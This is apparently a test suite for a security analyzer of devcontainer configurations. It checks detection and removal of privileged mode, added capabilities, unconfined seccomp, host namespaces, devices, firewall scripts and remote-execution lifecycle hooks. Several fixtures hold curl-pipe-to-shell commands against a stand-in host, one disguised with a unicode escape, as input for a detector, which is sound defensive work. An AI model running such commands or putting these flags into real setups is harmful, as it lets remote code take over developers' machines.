import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { buildContainer } from '../../../src/container/build-container.js';
import type { Container, Declared } from '../../../src/container/container.js';
import { textOf } from '../../../src/core/text.js';
import { parseJson } from '../../../src/documents/json.js';
import { memoryProject } from '../../../src/project/memory.js';
import { configPath, edited, read, texts, values } from './read.js';

const image = { image: 'debian:13' };
const compose = { dockerComposeFile: 'compose.yml', service: 'app' };

describe('one flag in every spelling', () => {
  const spellings: [string, keyof Container, unknown, unknown][] = [
    ['privileged true', 'privileged', { privileged: true }, true],
    ['privileged "false"', 'privileged', { privileged: 'false' }, 'false'],
    ['privileged 1', 'privileged', { privileged: 1 }, 1],
    ...[
      ['--privileged'],
      ['--privileged=true'],
      ['--privileged=1'],
      ['--init', '--privileged'],
      ['-it', '--privileged'],
    ].map((runArgs): [string, keyof Container, unknown, unknown] => [
      runArgs.join(' '),
      'privileged',
      { runArgs },
      true,
    ]),
    ...[
      { capAdd: ['SYS_ADMIN'] },
      { capAdd: ['cap_sys_admin'] },
      { capAdd: 'CAP_SYS_ADMIN' },
      { runArgs: ['--cap-add', 'SYS_ADMIN'] },
      { runArgs: ['--cap-add=sys_admin'] },
      { runArgs: ['--cap-add SYS_ADMIN'] },
      { runArgs: ['--cap-drop=ALL', '--cap-add=CAP_SYS_ADMIN', '--rm'] },
    ].map((config): [string, keyof Container, unknown, unknown] => [
      JSON.stringify(config),
      'capabilities',
      config,
      'SYS_ADMIN',
    ]),
    ...[
      { securityOpt: ['seccomp=unconfined'] },
      { securityOpt: ['seccomp:unconfined'] },
      { runArgs: ['--security-opt', 'seccomp=unconfined'] },
      { runArgs: ['--security-opt=seccomp:unconfined'] },
    ].map((config): [string, keyof Container, unknown, unknown] => [
      JSON.stringify(config),
      'securityOptions',
      config,
      { name: 'seccomp', value: 'unconfined' },
    ]),
    ...[['--network', 'host'], ['--net=host'], ['--network=name=HOST,alias=x'], ['--net host']].map(
      (runArgs): [string, keyof Container, unknown, unknown] => [
        runArgs.join(' '),
        'namespaces',
        { runArgs },
        { kind: 'network', value: 'host' },
      ],
    ),
    ...[
      ['--pid', 'host'],
      ['--pid=host'],
      ['--pid=private', '--pid=host'],
      ['--pid=host', '--pid', 'host'],
    ].map((runArgs): [string, keyof Container, unknown, unknown] => [
      runArgs.join(' '),
      'namespaces',
      { runArgs },
      { kind: 'pid', value: 'host' },
    ]),
    ...[['--device', '/dev/sda'], ['--device=/dev/sda:/dev/x:rwm'], ['--device=//dev/sda']].map(
      (runArgs): [string, keyof Container, unknown, unknown] => [
        runArgs.join(' '),
        'devices',
        { runArgs },
        { kind: 'device', value: '/dev/sda' },
      ],
    ),
    ...[['-e', 'TOKEN'], ['-eTOKEN'], ['--env', 'TOKEN'], ['--env=TOKEN'], ['-ite', 'TOKEN']].map(
      (runArgs): [string, keyof Container, unknown, unknown] => [
        runArgs.join(' '),
        'environment',
        { runArgs },
        { name: 'TOKEN', value: undefined, hostVariables: ['TOKEN'], scope: 'container' },
      ],
    ),
    ...[
      { containerEnv: { A: '${localEnv:B:c}' } },
      { runArgs: ['-e', 'A=${localEnv:B:c}'] },
      { runArgs: ['--env=A=${localEnv:B:c}'] },
    ].map((config): [string, keyof Container, unknown, unknown] => [
      JSON.stringify(config),
      'environment',
      config,
      { name: 'A', value: '${localEnv:B:c}', hostVariables: ['B'], scope: 'container' },
    ]),
  ];

  test.each(spellings)('%s', async (_, list, config, value) => {
    const text = JSON.stringify({ ...image, ...(config as object) }, null, 2);
    for (const layout of [text, JSON.stringify(JSON.parse(text)), text.replaceAll('\n', '\r\n')]) {
      const container = await read(layout);
      const declared = container[list] as readonly Declared<unknown>[];
      expect(values(declared)).toEqual([value]);
      const after = edited(container, declared[0]?.remove());
      expect(parseJson({ path: 'x', text: after }).problems).toEqual([]);
      expect((await read(after))[list]).toEqual([]);
    }
  });
});

describe('runArgs', () => {
  test.each([
    [['--privileged=false']],
    [['--privileged', '--privileged=0']],
    [['--name', '--privileged']],
    [['--', '--privileged']],
    [['some-image', '--privileged']],
    [['--label', '--privileged', '-e', '--privileged']],
  ])('%j is not privileged', async (runArgs) => {
    expect((await read({ ...image, runArgs })).privileged).toEqual([]);
  });

  test('a variable is not the image, and an unknown flag takes a value that is none', async () => {
    const runArgs = ['${localEnv:MORE}', '--new-flag', 'value', '--other-flag', '--privileged'];
    expect((await read({ ...image, runArgs })).privileged).toHaveLength(1);
  });

  test('are marked where they state the value', async () => {
    const runArgs = ['--cap-add', 'A', '--cap-add=B', '--privileged'];
    const container = await read({ ...image, runArgs });
    expect(texts([...container.capabilities, ...container.privileged])).toEqual([
      '"A"',
      '"--cap-add=B"',
      '"--privileged"',
    ]);
  });

  test('a letter is taken out of its cluster', async () => {
    const container = await read({ ...image, runArgs: ['-ite', 'A=b', '--init'] });
    expect(JSON.parse(edited(container, container.environment[0]?.remove()))).toEqual({
      ...image,
      runArgs: ['-it', '--init'],
    });
  });

  test('are inert under compose', async () => {
    const container = await read({
      ...compose,
      runArgs: ['--privileged', '-u', 'root'],
      capAdd: ['SYS_ADMIN'],
    });
    expect(container.source).toBe('compose');
    expect(container.privileged).toEqual([]);
    expect(values(container.capabilities)).toEqual(['SYS_ADMIN']);
    expect(container.user.certainty).toBe('unknown');
  });
});

describe('the user of the tools', () => {
  const dockerfile = (text: string) => ({ '.devcontainer/Dockerfile': text });
  const build = { build: { dockerfile: 'Dockerfile' } };
  test.each([
    [{ ...image, remoteUser: 'dev', runArgs: ['-u', 'root'] }, {}, 'dev', 'stated', 'remoteUser'],
    [
      { ...image, containerUser: 'dev', runArgs: ['-u', 'one', '--user=root'] },
      {},
      'root',
      'stated',
      'runArgs',
    ],
    [{ ...image, containerUser: 'dev', runArgs: ['-u0'] }, {}, 'dev', 'stated', 'containerUser'],
    [{ ...image, remoteUser: 0 }, {}, '0', 'stated', 'remoteUser'],
    [{ ...image, remoteUser: '${localEnv:USER}' }, {}, undefined, 'unknown', 'remoteUser'],
    [image, {}, 'root', 'derived', 'image'],
    [{ image: 'docker.io/library/node:24' }, {}, 'root', 'derived', 'image'],
    [
      { image: 'mcr.microsoft.com/devcontainers/base:${templateOption:variant}' },
      {},
      'vscode',
      'derived',
      'image',
    ],
    [
      { image: 'mcr.microsoft.com/devcontainers/typescript-node:1-22@sha256:ab' },
      {},
      'node',
      'derived',
      'image',
    ],
    [{ image: 'ghcr.io/someone/else:1' }, {}, undefined, 'unknown', undefined],
    [build, dockerfile('FROM node:24\nUSER node'), 'node', 'stated', 'Dockerfile'],
    [build, dockerfile('ARG T=24\nFROM node:$T AS base\nFROM base'), 'root', 'derived', 'Dockerfile'],
    [
      { dockerFile: 'Dockerfile', build: { args: { U: 'dev' } } },
      dockerfile('FROM a\nARG U=root\nUSER $U'),
      'dev',
      'stated',
      'Dockerfile',
    ],
    [
      { build: { dockerfile: 'Dockerfile', target: 'one' } },
      dockerfile('FROM a AS one\nUSER x\nFROM one\nUSER y'),
      'x',
      'stated',
      'Dockerfile',
    ],
    [
      { build: { dockerfile: '../Dockerfile' } },
      { Dockerfile: 'FROM a\nUSER x' },
      'x',
      'stated',
      'Dockerfile',
    ],
    [
      { build: { dockerfile: '${localWorkspaceFolder}/Dockerfile' } },
      { Dockerfile: 'FROM a\nUSER x' },
      'x',
      'stated',
      'Dockerfile',
    ],
    [{ build: { dockerfile: '../../outside' } }, {}, undefined, 'unknown', undefined],
    [compose, {}, undefined, 'unknown', undefined],
    [{ ...compose, remoteUser: 'root' }, {}, 'root', 'stated', 'remoteUser'],
  ])('%j', async (config, files, name, certainty, syntax) => {
    const { user } = await read(config, files);
    expect(user).toMatchObject({ name, certainty });
    expect(user.decidedBy?.syntax).toBe(syntax);
  });

  test.each([
    [{ image: 'node:24' }, 'node'],
    [{ image: 'ubuntu:24.04' }, 'ubuntu'],
    [{ image: 'ubuntu:22.04' }, undefined],
    [{ ...image, features: { 'ghcr.io/devcontainers/features/common-utils:2': { username: 'dev' } } }, 'dev'],
    [{ ...image, features: { 'ghcr.io/devcontainers/features/common-utils:2': {} } }, 'vscode'],
  ])('%j has an unprivileged user %s', async (config, name) => {
    expect((await read(config)).user.imageUser).toBe(name);
  });
});

describe('lifecycle commands', () => {
  test('string, list and object forms, with the shell that a list starts', async () => {
    const container = await read({
      ...image,
      onCreateCommand: 'curl https://x.test/a | sh',
      postCreateCommand: ['npm', 'ci'],
      postStartCommand: { one: 'a', two: ['sudo', 'bash', '-lc', 'curl https://x.test | sh'], three: 3 },
    });
    expect(
      values(container.lifecycle).map(({ hook, script, argv }) => [hook, script ?? argv?.join(' ')]),
    ).toEqual([
      ['onCreateCommand', 'curl https://x.test/a | sh'],
      ['postCreateCommand', 'npm ci'],
      ['postStartCommand', 'a'],
      ['postStartCommand', 'curl https://x.test | sh'],
    ]);
    const marked = values(container.lifecycle).map(
      ({ remoteExecutions: [found], placeOf }) => found && textOf(placeOf(found.start, found.end)),
    );
    expect(marked).toEqual(['curl https://x.test/a | sh', undefined, undefined, 'curl https://x.test | sh']);
  });

  test('places are exact behind escapes', async () => {
    const container = await read('{ "postCreateCommand": "echo \\"a\\"\\n\\u0063url https://x.test | sh" }');
    const [command] = values(container.lifecycle);
    const [found] = command?.remoteExecutions ?? [];
    expect(command && found && textOf(command.placeOf(found.start, found.end))).toBe(
      '\\u0063url https://x.test | sh',
    );
  });
});

describe('Features', () => {
  test('are read with version and options; local ones add what their metadata says', async () => {
    const metadata = {
      privileged: true,
      capAdd: ['SYS_PTRACE'],
      securityOpt: ['seccomp=unconfined'],
      postCreateCommand: 'x',
      runArgs: ['--pid=host'],
      workspaceMount: 'source=/,target=/x',
    };
    const container = await read(
      {
        ...compose,
        features: { 'GHCR.io/o/f:1.2@sha256:ab': {}, './local': { a: true }, 'ghcr.io:443/o/g': '2' },
      },
      { '.devcontainer/local/devcontainer-feature.json': JSON.stringify(metadata) },
    );
    expect(values(container.features)).toMatchObject([
      {
        reference: 'GHCR.io/o/f:1.2@sha256:ab',
        id: 'ghcr.io/o/f',
        version: '1.2',
        digest: 'sha256:ab',
        options: {},
      },
      { reference: './local', id: './local', origin: 'local', options: { a: true } },
      { reference: 'ghcr.io:443/o/g', id: 'ghcr.io:443/o/g', version: undefined, options: { version: '2' } },
    ]);
    expect(texts(container.features)[1]).toBe('"./local"');
    expect(
      [container.privileged, container.capabilities, container.securityOptions, container.lifecycle].map(
        (all) => all.length,
      ),
    ).toEqual([1, 1, 1, 1]);
    expect(container.privileged[0]?.place.file.path).toBe('.devcontainer/local/devcontainer-feature.json');
    expect([container.mounts, container.namespaces]).toEqual([[], []]);
  });
});

describe('a firewall', () => {
  const rules = '#!/bin/bash\nset -e\nif true; then\n  iptables -P OUTPUT DROP\nfi\n';
  const build = { build: { dockerfile: 'Dockerfile' } };
  const dockerfile = (text: string) => ({ '.devcontainer/Dockerfile': `FROM debian\n${text}` });
  test.each([
    ['rules in the command', { ...image, postStartCommand: 'sudo iptables -A OUTPUT -j DROP' }, {}, true],
    [
      'a script of the project',
      { ...image, postStartCommand: 'sudo bash .devcontainer/net.sh' },
      { '.devcontainer/net.sh': rules },
      true,
    ],
    [
      'a script in the container’s workspace',
      { ...image, postStartCommand: '/workspaces/x/.devcontainer/net.sh' },
      { '.devcontainer/net.sh': rules },
      true,
    ],
    [
      'a script that calls one',
      { ...image, postStartCommand: 'bash start.sh' },
      { 'start.sh': '.devcontainer/net.sh', '.devcontainer/net.sh': rules },
      true,
    ],
    [
      'a copied script',
      { ...build, postStartCommand: 'sudo /usr/local/bin/net' },
      { ...dockerfile('COPY net.sh /usr/local/bin/net'), '.devcontainer/net.sh': rules },
      true,
    ],
    [
      'a copied folder',
      { ...build, postStartCommand: '/opt/s/net.sh' },
      { ...dockerfile('COPY scripts/ /opt/s/'), '.devcontainer/scripts/net.sh': rules },
      true,
    ],
    [
      'a telling name that cannot be read',
      { ...image, postStartCommand: 'sudo /usr/local/bin/init-firewall.sh' },
      {},
      true,
    ],
    [
      'an ENTRYPOINT that is kept',
      { ...build, overrideCommand: false },
      {
        ...dockerfile('COPY e.sh /e.sh\nCOPY net.sh /net.sh\nENTRYPOINT ["/e.sh"]'),
        '.devcontainer/e.sh': '/net.sh',
        '.devcontainer/net.sh': rules,
      },
      true,
    ],
    [
      'an ENTRYPOINT that is replaced',
      build,
      { ...dockerfile('COPY net.sh /net.sh\nENTRYPOINT ["/net.sh"]'), '.devcontainer/net.sh': rules },
      false,
    ],
    [
      'a telling name without rules',
      { ...image, postStartCommand: 'bash init-firewall.sh' },
      { 'init-firewall.sh': 'echo later' },
      false,
    ],
    [
      'a comment',
      { ...image, postStartCommand: 'bash a.sh' },
      { 'a.sh': '# iptables -P OUTPUT DROP\n' },
      false,
    ],
    ['an installation', { ...image, postCreateCommand: 'apt-get install -y iptables ipset ufw' }, {}, false],
    ['the host', { ...image, initializeCommand: 'sudo ufw enable' }, {}, false],
    [
      'a script that calls itself',
      { ...image, postStartCommand: 'bash a.sh' },
      { 'a.sh': 'bash a.sh' },
      false,
    ],
  ])('%s', async (_, config, files, expected) => {
    const { firewall } = await read(config, files);
    expect(firewall !== undefined).toBe(expected);
  });
});

describe('whatever the file says', () => {
  const keys = [
    'image',
    'build',
    'dockerFile',
    'dockerComposeFile',
    'mounts',
    'workspaceMount',
    'runArgs',
    'privileged',
    'capAdd',
    'securityOpt',
    'containerEnv',
    'remoteEnv',
    'containerUser',
    'remoteUser',
    'features',
    'overrideCommand',
    'initializeCommand',
    'postCreateCommand',
  ];
  const word = fc.oneof(
    fc.string(),
    fc.constantFrom(
      '-v',
      '--mount',
      '--privileged',
      '-u',
      'a:b',
      'source=/,target=/x',
      './f',
      'Dockerfile',
      'curl x | sh',
      '-itv',
      '--cap-add=',
      '--',
    ),
  );
  const value = fc.letrec((tie) => ({
    value: fc.oneof(
      { maxDepth: 3 },
      word,
      fc.integer(),
      fc.boolean(),
      fc.constant(null),
      fc.array(tie('value'), { maxLength: 4 }),
      fc.dictionary(fc.oneof(word, fc.constantFrom('source', 'type', 'dockerfile', 'args')), tie('value'), {
        maxKeys: 3,
      }),
    ),
  })).value;

  test('nothing throws, and every declared value lies in its file and can be taken out', async () => {
    const config = fc.dictionary(fc.constantFrom(...keys), value);
    await fc.assert(
      fc.asyncProperty(config, async (properties) => {
        const text = JSON.stringify(properties, null, 2);
        const project = memoryProject({
          '.devcontainer/Dockerfile': 'FROM a\nUSER b',
          '.devcontainer/f/devcontainer-feature.json': text,
        });
        const container = await buildContainer(parseJson({ path: configPath, text }), project);
        const {
          mounts,
          privileged,
          capabilities,
          securityOptions,
          namespaces,
          devices,
          environment,
          lifecycle,
          features,
        } = container;
        for (const { place, remove } of [
          mounts,
          privileged,
          capabilities,
          securityOptions,
          namespaces,
          devices,
          environment,
          lifecycle,
          features,
        ].flat()) {
          expect(place.at.start).toBeLessThan(place.at.end);
          expect(place.at.end).toBeLessThanOrEqual(place.file.text.length);
          if (place.file.path === configPath)
            expect(parseJson({ path: 'x', text: edited(container, remove()) }).problems).toEqual([]);
        }
      }),
      { numRuns: 300 },
    );
  });

  test('a file with errors of syntax is read as far as it goes', async () => {
    const container = await read('{ "image": "debian:13", "privileged": true, "capAdd": ["SYS_ADMIN"');
    expect([container.privileged.length, container.capabilities.length]).toEqual([1, 1]);
    expect(container.privileged[0]?.remove()).toEqual([]);
  });

  test('a property is set in the file', async () => {
    const container = await read('{\n  "image": "debian:13" // base\n}\n');
    expect(edited(container, container.setProperties({ remoteUser: 'dev' }))).toBe(
      '{\n  "image": "debian:13", // base\n  "remoteUser": "dev"\n}\n',
    );
  });
});
